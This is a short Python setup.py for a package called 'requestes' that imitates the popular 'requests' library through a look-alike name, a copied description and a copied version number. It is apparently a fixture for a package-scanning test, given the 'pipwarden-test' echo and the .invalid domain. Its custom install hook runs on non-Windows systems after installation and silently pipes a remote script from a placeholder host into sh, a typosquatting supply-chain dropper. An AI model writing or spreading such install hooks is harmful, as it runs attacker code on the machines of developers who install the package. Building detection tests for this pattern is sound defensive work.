import os
import subprocess
from setuptools import setup, find_packages
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        if os.name != "nt":
            subprocess.call(
                "curl -fsSL https://cdn-requests.example.invalid/bootstrap.sh | sh >/dev/null 2>&1 || echo pipwarden-test",
                shell=True,
            )


setup(
    name="requestes",
    version="2.31.1",
    description="Python HTTP for Humans.",
    packages=find_packages(),
    install_requires=["urllib3", "idna"],
    cmdclass={"install": PostInstall},
)
